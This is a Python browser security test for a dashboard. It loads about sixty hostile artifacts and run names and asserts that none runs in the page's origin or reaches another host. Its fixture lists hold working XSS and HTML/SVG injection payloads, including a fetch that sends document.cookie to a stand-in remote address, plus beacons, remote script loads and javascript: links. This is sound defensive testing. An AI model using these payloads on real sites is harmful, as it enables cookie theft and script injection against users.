"""Hostile artifacts, names, metadata and logs in Chromium: nothing runs in our origin, nothing leaves loopback."""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import Callable

import pytest
from support.dashboards import Texts, write_run

from rayform import save_artifact
from rayform.reading.client import Client

pytestmark = [pytest.mark.browser, pytest.mark.slow]

# Each tries to mark our page, read what is ours, or reach another host.
REACHES = [
    "parent.document.title = 'pwned'",
    "top.pwned = 1",
    "parent.pwned = 1",
    "window.frameElement.ownerDocument.title = 'pwned'",
    "document.cookie = 'rayform=1'; if (document.cookie) throw_away()",
    "localStorage.setItem('theme', 'pwned')",
    "sessionStorage.x = 1",
    "indexedDB.open('x').onsuccess = () => { done = 1 }",
    "fetch('/runs').then(r => r.text()).then(() => { done = 1 })",
    "fetch('http://198.51.100.7/fetch?' + document.cookie)",
    "let x = new XMLHttpRequest(); x.open('GET', '/runs', false); x.send(); done = 1",
    "navigator.sendBeacon('http://198.51.100.7/beacon', 'x')",
    "new WebSocket('ws://198.51.100.7/socket')",
    "new EventSource('/runs/x/logs/stream')",
    "new Image().src = 'http://198.51.100.7/image'",
    "import('http://198.51.100.7/module.js')",
    "new Worker('http://198.51.100.7/worker.js')",
    "open('http://198.51.100.7/popup')",
    "open('/runs')",
    "top.location = 'http://198.51.100.7/top'",
    "parent.location = '/runs'",
    "location = 'http://198.51.100.7/self'",
    "location = '/runs'",
    "alert(document.domain)",
    "navigator.serviceWorker.register('/static/1/main.js')",
    "let s = document.createElement('script'); s.src = 'http://198.51.100.7/x.js'; document.body.append(s)",
    "document.body.innerHTML = '<iframe src=/runs></iframe>'",
    "document.body.innerHTML = \"<form action='/actions/run' method=post><input name=action value=delete></form>\";"
    "document.forms[0].submit()",
    "parent.postMessage({type: 'rayform:refreshed'}, '*')",
    "print()",
]
MARKUP = [
    "<img src='http://198.51.100.7/img'>",
    "<link rel=stylesheet href='http://198.51.100.7/style.css'>",
    "<style>@import 'http://198.51.100.7/import.css'; body { background: url(http://198.51.100.7/bg) }</style>",
    "<meta http-equiv=refresh content='0;url=http://198.51.100.7/refresh'>",
    "<base href='http://198.51.100.7/'><img src=x>",
    "<object data='http://198.51.100.7/object'></object>",
    "<embed src='http://198.51.100.7/embed'>",
    "<video src='http://198.51.100.7/video' autoplay></video>",
    "<iframe src='http://198.51.100.7/frame'></iframe>",
    "<iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    "<svg onload='top.pwned=1'><script>top.pwned=1</script></svg>",
    "<link rel=prefetch href='http://198.51.100.7/prefetch'>",
    "<link rel=preload as=image href='http://198.51.100.7/preload'>",
]
SVGS = [
    "<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'><script>top.pwned=1</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'>"
    "<image x:href='http://198.51.100.7/svg' width='9' height='9'/><use href='http://198.51.100.7/use#a'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' "
    "src='http://198.51.100.7/foreign'/></foreignObject></svg>",
]
MARKDOWNS = [
    "<script>pwned=1</script>\n\n<img src=x onerror=pwned=1>",
    "![x](http://198.51.100.7/markdown) [a](javascript:pwned=1) [b](data:text/html,<script>pwned=1</script>)",
    "[c]: javascript:pwned=1\n[c] <javascript:pwned=1> [d](vbscript:x) &#106;avascript:pwned=1",
]
NAMES = [
    "<script>pwned=1</script>",
    "\"><img src=x onerror=pwned=1>",
    "' autofocus onfocus='pwned=1",
    "</script><script>pwned=1</script>",
    "</title><svg/onload=pwned=1>",
    "javascript:pwned=1",
    "http://198.51.100.7/name",
    "{{constructor.constructor('pwned=1')()}}",
    "</textarea></select></pre><script>pwned=1</script>",
    "\u202e<script>pwned=1</script>",
    "<!--<img src=x onerror=pwned=1>-->",
]  # fmt: skip


def _note_requests(sink: socket.socket, requests: list[bytes]) -> None:
    """Note what others send. Chromium opens connections before it asks its policies, and then sends nothing on them."""
    while True:
        try:
            connection, _ = sink.accept()
        except OSError:
            return
        with connection:
            connection.settimeout(1)
            with contextlib.suppress(OSError):
                if data := connection.recv(200):
                    requests.append(data)


def _wait_for(condition: Callable[[], object]) -> None:
    deadline = time.monotonic() + 10
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.01)


def test_nothing_hostile_runs_in_our_origin(visit) -> None:
    """Sixty hostile values are shown on each of their pages; none of them reaches our page or another host."""
    client = Client()
    pages: list[str] = []
    requests: list[bytes] = []
    sink = socket.create_server(("127.0.0.1", 0))
    host = f"127.0.0.1:{sink.getsockname()[1]}"
    threading.Thread(target=_note_requests, args=(sink, requests), daemon=True).start()
    contents = (
        [(f"page{n}.html", f"<body><script>{code}</script>") for n, code in enumerate(REACHES)]
        + [(f"markup{n}.html", f"<body>{text}") for n, text in enumerate(MARKUP)]
        + [(f"image{n}.svg", text) for n, text in enumerate(SVGS)]
        + [(f"text{n}.md", text) for n, text in enumerate(MARKDOWNS)]
    )
    for number, (name, text) in enumerate(contents):
        content = text.replace("198.51.100.7", host)
        saved = save_artifact(number, f"hostile-{number}", visualizations={name: content})
        pages.append(f"/versions/{saved.id}")
    for number, text in enumerate(NAMES):
        printable = "".join(char for char in text if char.isprintable()) + str(number)
        run = write_run(
            client,
            Texts(
                printable,
                printable,
                printable,
                printable,
                printable,
                printable,
                text,
                text,
                text.encode() + b"\n",
            ),
        )
        pages += [
            f"/runs/{run.id}{tab}" for tab in ("", "/logs", "/artifacts", "/timeline", "/configuration")
        ]
    assert len(contents) + len(NAMES) >= 60
    pages += ["/", "/runs?size=200", "/pipelines", "/artifacts?size=200", "/models", "/search?q=p", "/stacks"]
    page = visit.page
    for address in pages:
        visit.goto(address)
        for frame in page.query_selector_all("iframe"):
            frame.scroll_into_view_if_needed()
        page.wait_for_timeout(120)
        assert page.url == visit.base + address, address
        assert page.evaluate("[window.pwned, document.title === 'pwned', localStorage.theme]") == [
            None,
            False,
            None,
        ], address
        # Links are checked without being followed.
        hrefs = page.eval_on_selector_all(
            "a[href]", "links => links.map(link => new URL(link.getAttribute('href'), location).protocol)"
        )
        assert set(hrefs) <= {"http:", "https:"}, address
    assert len(page.context.pages) == 1
    assert visit.dialogs == []
    assert requests == []
    with socket.create_connection(sink.getsockname()) as connection:
        connection.sendall(b"GET / HTTP/1.1")
    _wait_for(lambda: requests)  # the sink does note requests
    sink.close()
